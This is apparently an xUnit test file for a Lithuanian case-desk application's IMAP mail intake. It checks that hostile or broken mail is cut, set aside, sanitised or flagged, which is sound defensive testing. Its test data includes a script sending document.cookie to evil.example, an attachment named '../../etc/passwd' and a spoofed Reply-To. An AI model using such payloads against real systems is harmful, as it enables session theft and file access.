using System.Diagnostics;
using System.Text;
using CaseDesk.App.Mail;
using CaseDesk.Domain.Common;
using CaseDesk.Domain.Emails;
using CaseDesk.Domain.Emails.Intake;
using Microsoft.EntityFrameworkCore;
using MimeKit;
using Xunit.Abstractions;

namespace CaseDesk.Tests.Mail;

/// <summary>
/// Hostile and broken mail through a real Dovecot: huge bodies, broken MIME, HTML with script, spoofed senders, thousands of
/// messages at once. Nothing crashes, nothing is executed or kept as markup, nothing is lost (registered or set aside), and
/// the password never reaches the log.
/// </summary>
public sealed class ImapHostileMailTests(ITestOutputHelper output)
{
    [SkippableFact]
    public async Task A_huge_body_is_registered_cut_with_a_note_and_the_whole_message_set_aside()
    {
        await using var server = await DovecotServer.StartAsync();
        await using var rig = await ImapTestRig.CreateAsync();
        var huge = string.Concat(Enumerable.Repeat("Labai ilgas laiškas apie pašalpą. ", 30_000));
        await server.AppendAsync(ImapFetchTests.Message("ilgas@example.lt", "Ilgas", huge, "huge-1@client.example"));

        var report = await rig.Fetcher.FetchAsync(server.Mailbox(), CancellationToken.None);

        Assert.Equal((1, 1), (report.Registered, report.SetAside));
        var email = await rig.Db.ReadAsync(db => db.EmailEnquiries.AsNoTracking().SingleAsync());
        Assert.True(email.Body.Length <= 20000, $"{email.Body.Length} characters kept");
        Assert.StartsWith("Labai ilgas laiškas apie pašalpą.", email.Body);
        Assert.Contains("cut here", email.Body);
        var aside = await rig.Db.ReadAsync(db => db.Set<SetAsideMail>().AsNoTracking().SingleAsync());
        Assert.Equal((SetAsideReason.BodyCut, email.Id), (aside.Reason, aside.EmailEnquiryId));
        Assert.True(aside.RawSize > huge.Length, "the raw message's size is recorded");
        Assert.Equal(aside.RawSize, aside.Raw.Length);
    }

    [SkippableFact]
    public async Task Broken_mail_is_set_aside_with_the_reason_and_the_mail_after_it_still_comes_in()
    {
        await using var server = await DovecotServer.StartAsync();
        await using var rig = await ImapTestRig.CreateAsync();
        server.Deliver(Encoding.UTF8.GetBytes("Subject: Be siuntėjo\r\nMessage-ID: <nofrom-1@x>\r\n\r\nNiekas nepasirašė.\r\n"));
        server.Deliver([0xFF, 0xFE, 0x00, 0x01, .. Encoding.ASCII.GetBytes("\r\n\r\n--b\r\nContent-Type: multipart/mixed; boundary=\r\n\0\0"), 0x00]);
        server.Deliver(Encoding.UTF8.GetBytes(
            "From: a@example.lt\r\nSubject: Sugadintas\r\nMessage-ID: <broken-2@x>\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=\"zz\"\r\n\r\n" +
            "--zz\r\nContent-Type: text/plain; charset=x-unknown-charset\r\nContent-Transfer-Encoding: base64\r\n\r\n@@@not base64@@@\r\n--zz\r\n" +
            "Content-Type: application/pdf; name=\"../../etc/passwd\"\r\nContent-Disposition: attachment; filename=\"../../etc/passwd\"\r\nContent-Transfer-Encoding: base64\r\n\r\n%%%%\r\n"));
        await server.AppendAsync(ImapFetchTests.Message("geras@example.lt", "Tvarkingas", "Tvarkingas laiškas po sugadintų"));

        var report = await rig.Fetcher.FetchAsync(server.Mailbox(), CancellationToken.None);
        output.WriteLine(report.ToString());

        Assert.Equal(4, report.Seen);
        var emails = await rig.Db.ReadAsync(db => db.EmailEnquiries.AsNoTracking().ToListAsync());
        var aside = await rig.Db.ReadAsync(db => db.Set<SetAsideMail>().AsNoTracking().ToListAsync());
        foreach (var a in aside)
            output.WriteLine($"set aside: {a.Reason} {a.Detail}");
        // Nothing lost: every message is an enquiry or set aside, and the good one after the broken ones came in.
        Assert.Equal(4, emails.Count + aside.Count);
        Assert.Contains(emails, e => e.Subject == "Tvarkingas");
        Assert.Contains(aside, a => a.Reason == SetAsideReason.Refused && a.Subject == "Be siuntėjo" && a.Raw.Length > 0);
        var attachmentNames = await rig.Db.ReadAsync(db => db.Set<EmailAttachment>().Select(a => a.FileName).ToListAsync());
        Assert.DoesNotContain(attachmentNames, n => n.Contains('/') || n.Contains(".."+ "/"));
        var status = (await rig.Db.Send(new GetIncomingMailStatus(), Caller.System)).Single();
        Assert.Equal((4L, null), (status.LastUid, status.LastError));
    }

    /// <summary>
    /// A message reusing an earlier message's Message-Id was counted as already taken and skipped: a sender could hide a
    /// message behind a known id. The same message delivered again is still taken once; another one is kept aside.
    /// </summary>
    [SkippableFact]
    public async Task A_message_reusing_another_messages_id_is_set_aside_not_skipped_and_a_true_redelivery_is_taken_once()
    {
        await using var server = await DovecotServer.StartAsync();
        await using var rig = await ImapTestRig.CreateAsync();
        const string id = "prasymas-7@client.example";
        await server.AppendAsync(ImapFetchTests.Message("ona@example.lt", "Dėl pašalpos", "Prašau paskambinti.", id));
        await server.AppendAsync(ImapFetchTests.Message("ona@example.lt", "Dėl pašalpos", "Prašau paskambinti.", id));
        await server.AppendAsync(ImapFetchTests.Message("kitas@example.lt", "Visai kitas laiškas", "Paslėptas tekstas.", id));

        var report = await rig.Fetcher.FetchAsync(server.Mailbox(), CancellationToken.None);

        Assert.Equal((1, 1), (report.Registered, report.SetAside));
        var email = await rig.Db.ReadAsync(db => db.EmailEnquiries.AsNoTracking().SingleAsync());
        Assert.Equal("ona@example.lt", email.FromAddress);
        var aside = await rig.Db.ReadAsync(db => db.Set<SetAsideMail>().AsNoTracking().SingleAsync());
        Assert.Equal((SetAsideReason.SameIdOtherMessage, "Visai kitas laiškas"), (aside.Reason, aside.Subject));
        Assert.Contains("ona@example.lt", aside.Detail);
        Assert.Contains("Paslėptas tekstas.", Encoding.UTF8.GetString(aside.Raw));
    }

    [SkippableFact]
    public async Task Html_mail_becomes_plain_text_with_nothing_of_the_script_or_the_markup()
    {
        await using var server = await DovecotServer.StartAsync();
        await using var rig = await ImapTestRig.CreateAsync();
        var message = ImapFetchTests.Message("html@example.lt", "HTML", "");
        message.Body = new TextPart("html")
        {
            Text = "<html><head><title>T</title><style>p{color:red}</style><script>alert('head')</script></head><body>" +
                   "<p>Laba&nbsp;diena,</p><script type=\"text/javascript\">document.location='https://evil.example/?c='+document.cookie</script>" +
                   "<p onclick=\"steal()\">prašau <b>padėti</b> &amp; atsakyti.</p><img src=\"https://tracker.example/pixel.gif\"><iframe src=\"https://evil.example\">x</iframe></body></html>",
        };
        await server.AppendAsync(message);

        await rig.Fetcher.FetchAsync(server.Mailbox(), CancellationToken.None);

        var body = await rig.Db.ReadAsync(db => db.EmailEnquiries.Select(e => e.Body).SingleAsync());
        output.WriteLine(body);
        Assert.Equal("Laba diena,\n\nprašau padėti & atsakyti.", body);
    }

    [SkippableFact]
    public async Task A_spoofed_sender_is_not_matched_and_its_reply_to_is_recorded_not_used()
    {
        await using var server = await DovecotServer.StartAsync();
        await using var rig = await ImapTestRig.CreateAsync();
        var caseworker = await rig.Db.CreateCallerAsync(Roles.Caseworker);
        var client = await rig.Db.Send(new CaseDesk.Domain.Clients.RegisterClient("Ona", "Jonaitienė", null, null, null, "ona@example.lt", null, [],
            CaseDesk.Domain.Clients.ClientLanguage.Lithuanian, null, null, false, null, [], ConfirmedNotDuplicate: true), caseworker);
        var spoofed = ImapFetchTests.Message("ona@example.lt", "Pakeiskite mano sąskaitą", "Siųskite pinigus į naują sąskaitą.");
        spoofed.ReplyTo.Add(MailboxAddress.Parse("thief@evil.example"));
        spoofed.Headers.Insert(0, new Header(HeaderId.AuthenticationResults, "mx.savivaldybe.lt; spf=fail smtp.mailfrom=example.lt; dkim=none; dmarc=fail header.from=example.lt"));
        var honest = ImapFetchTests.Message("ona@example.lt", "Ačiū", "Ačiū už atsakymą.");
        honest.ReplyTo.Add(MailboxAddress.Parse("Ona@Example.lt"));
        honest.Headers.Insert(0, new Header(HeaderId.AuthenticationResults, "mx.savivaldybe.lt; spf=pass smtp.mailfrom=example.lt; dkim=pass; dmarc=pass"));
        await server.AppendAsync([spoofed, honest]);

        await rig.Fetcher.FetchAsync(server.Mailbox(), CancellationToken.None);

        var rows = await rig.Db.ReadAsync(db => db.EmailEnquiries.AsNoTracking()
            .Join(db.Set<IncomingEmail>(), e => e.Id, i => i.EmailEnquiryId, (e, i) => new { e.Id, e.Subject, e.ClientId, i.ReplyToAddress, i.VerificationFailure })
            .ToDictionaryAsync(r => r.Subject));
        Assert.Null(rows["Pakeiskite mano sąskaitą"].ClientId);
        Assert.Equal("thief@evil.example", rows["Pakeiskite mano sąskaitą"].ReplyToAddress);
        Assert.Equal("dmarc=fail, spf=fail", rows["Pakeiskite mano sąskaitą"].VerificationFailure);
        Assert.Equal(client, rows["Ačiū"].ClientId);
        Assert.Null(rows["Ačiū"].ReplyToAddress);
        Assert.Null(rows["Ačiū"].VerificationFailure);
        var reception = await rig.Db.CreateCallerAsync(Roles.Reception);
        var intake = await rig.Db.Send(new GetEmailIntake(rows["Pakeiskite mano sąskaitą"].Id), reception);
        Assert.Equal(("thief@evil.example", "dmarc=fail, spf=fail"), (intake.ReplyToAddress, intake.VerificationFailure));
    }

    [SkippableFact]
    public async Task Attachments_are_kept_under_the_caps_listed_over_them_and_downloaded_through_an_audited_read()
    {
        await using var server = await DovecotServer.StartAsync();
        await using var rig = await ImapTestRig.CreateAsync();
        var builder = new BodyBuilder { TextBody = "Siunčiu dokumentus." };
        builder.Attachments.Add("pažyma.pdf", Encoding.ASCII.GetBytes("%PDF-1.4 small"), new ContentType("application", "pdf"));
        builder.Attachments.Add("didelis.zip", new byte[300_000], new ContentType("application", "zip"));
        var message = ImapFetchTests.Message("docs@example.lt", "Dokumentai", "");
        message.Body = builder.ToMessageBody();
        await server.AppendAsync(message);
        var box = server.Mailbox();
        box.MaxAttachmentBytes = 100_000;

        await rig.Fetcher.FetchAsync(box, CancellationToken.None);

        var emailId = await rig.Db.ReadAsync(db => db.EmailEnquiries.Select(e => e.Id).SingleAsync());
        var caseworker = await rig.Db.CreateCallerAsync(Roles.Caseworker);
        var intake = await rig.Db.Send(new GetEmailIntake(emailId), caseworker);
        Assert.Equal(["didelis.zip", "pažyma.pdf"], intake.Attachments.Select(a => a.FileName));
        var big = intake.Attachments[0];
        Assert.Equal((false, AttachmentNotKept.TooLarge, 300_000L), (big.Kept, big.NotKept, big.SizeBytes));
        var file = await rig.Db.Send(new GetEmailAttachment(intake.Attachments[1].Id), caseworker);
        Assert.Equal("%PDF-1.4 small", Encoding.ASCII.GetString(file.Content));
        await Assert.ThrowsAsync<NotFoundException>(() => rig.Db.Send(new GetEmailAttachment(big.Id), caseworker));
        var audit = await rig.Db.AuditEntriesAsync();
        Assert.Contains(audit, a => a.Action == nameof(GetEmailAttachment) && a.UserId == caseworker.UserId && a.Kind == CaseDesk.Domain.Audit.AuditKind.Read);
        var quality = await rig.Db.CreateCallerAsync(Roles.QualityOfficer);
        await Assert.ThrowsAsync<AccessDeniedException>(() => rig.Db.Send(new GetEmailAttachment(intake.Attachments[1].Id), quality));
    }

    [SkippableFact]
    public async Task Two_thousand_messages_at_once_are_all_registered_once()
    {
        await using var server = await DovecotServer.StartAsync();
        await using var rig = await ImapTestRig.CreateAsync();
        var putIn = Stopwatch.StartNew();
        await server.AppendAsync(Enumerable.Range(1, 2000).Select(i => ImapFetchTests.Message($"siuntejas{i % 300}@example.lt", $"Laiškas {i}",
            $"Laba diena, tai laiškas numeris {i}.\nSu pagarba")));
        putIn.Stop();

        var took = Stopwatch.StartNew();
        var report = await rig.Fetcher.FetchAsync(server.Mailbox(), CancellationToken.None);
        took.Stop();
        output.WriteLine($"2000 messages: appended in {putIn.Elapsed.TotalSeconds:F1} s, fetched and registered in {took.Elapsed.TotalSeconds:F1} s " +
            $"({2000 / took.Elapsed.TotalSeconds:F0} per second); {report}");

        Assert.Equal(2000, report.Registered);
        var subjects = await rig.Db.ReadAsync(db => db.EmailEnquiries.Select(e => e.Subject).ToListAsync());
        Assert.Equal(2000, subjects.Distinct().Count());
        Assert.Equal(2000, subjects.Count);
        Assert.Equal(2000, await server.CountAsync());
    }

    [SkippableFact]
    public async Task The_password_never_reaches_the_log_the_status_or_the_audit_trail()
    {
        await using var server = await DovecotServer.StartAsync();
        await using var rig = await ImapTestRig.CreateAsync();
        await server.AppendAsync(ImapFetchTests.Message("a@example.lt", "Tema", "Tekstas"));
        var wrong = server.Mailbox();
        wrong.Server.Password = "Neteisingas-Slaptazodis-42";

        Assert.True(await rig.Node(wrong).RunIfDueAsync(wrong, CancellationToken.None));
        var failed = (await rig.Db.Send(new GetIncomingMailStatus(), Caller.System)).Single();
        var right = server.Mailbox("kitas");
        Assert.True(await rig.Node(right).RunIfDueAsync(right, CancellationToken.None));

        output.WriteLine(failed.LastError);
        Assert.Contains("refused the user name or password", failed.LastError);
        Assert.Equal(1, await rig.Db.ReadAsync(db => db.EmailEnquiries.CountAsync()));
        var audit = string.Join("\n", (await rig.Db.AuditEntriesAsync()).Select(a => $"{a.Action} {a.Fields} {a.Reason}"));
        foreach (var password in new[] { wrong.Server.Password, server.Password })
        {
            Assert.DoesNotContain(password, rig.Log.Text);
            Assert.DoesNotContain(password, audit);
            Assert.DoesNotContain(password, failed.LastError!);
        }
        Assert.Contains("refused the user name or password", rig.Log.Text);
    }
}
